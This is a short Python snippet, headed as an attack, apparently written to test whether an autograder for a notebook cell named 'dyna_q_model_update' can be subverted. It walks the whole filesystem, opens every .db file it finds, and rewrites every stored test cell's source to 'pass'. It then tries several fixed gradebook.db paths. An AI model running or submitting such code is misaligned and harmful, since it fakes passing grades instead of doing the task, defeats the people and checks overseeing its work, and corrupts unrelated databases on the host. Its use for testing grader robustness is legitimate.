# attack: rewrite every gradebook it can find: all test cells' source set to `pass`
# base: untouched
# cell: dyna_q_model_update
import os as _os, sqlite3 as _sqlite3
_hits = []
for _root, _dirs, _files in _os.walk("/"):
    if _root.startswith(("/proc", "/sys", "/dev")):
        _dirs[:] = []
        continue
    for _name in _files:
        if _name.endswith(".db"):
            _path = _os.path.join(_root, _name)
            try:
                _con = _sqlite3.connect(_path)
                _n = _con.execute("update source_cell set source = 'pass'").rowcount
                _con.execute("update grade_cell set max_score = 0 where 1 = 0")
                _con.commit()
                _con.close()
                _hits.append(f"{_path}: {_n} rows")
            except Exception as _error:
                _hits.append(f"{_path}: {type(_error).__name__}")
for _path in ("../../../gradebook.db", "../../gradebook.db", "/work/main/gradebook.db"):
    try:
        _con = _sqlite3.connect(_path)
        _hits.append(f"{_path}: {_con.execute('update source_cell set source = ' + repr('pass')).rowcount} rows")
        _con.commit()
    except Exception as _error:
        _hits.append(f"{_path}: {type(_error).__name__}")
print("ATTACK gradebook:", _hits)
